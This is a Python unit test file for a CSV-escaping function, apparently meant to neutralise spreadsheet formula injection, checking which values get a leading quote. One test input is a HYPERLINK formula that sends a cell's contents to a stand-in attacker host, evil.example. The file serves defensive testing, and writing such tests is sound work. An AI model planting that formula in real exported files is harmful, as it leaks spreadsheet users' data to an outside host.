# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import unittest

from spreadsheet import csv_safe


class TestCsvSafe(unittest.TestCase):
    def test_formulas_become_text(self):
        for value in ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+33 6 12", "-2+3", "@SUM(A1)", "\t=1"):
            with self.subTest(value=value):
                self.assertEqual(csv_safe(value), "'" + value)

    def test_other_values_unchanged(self):
        for value in ("Jeanne", "jeanne@example.com", "", "a=b", -5, 3.5, None, False):
            with self.subTest(value=value):
                self.assertEqual(csv_safe(value), value)


if __name__ == "__main__":
    unittest.main()
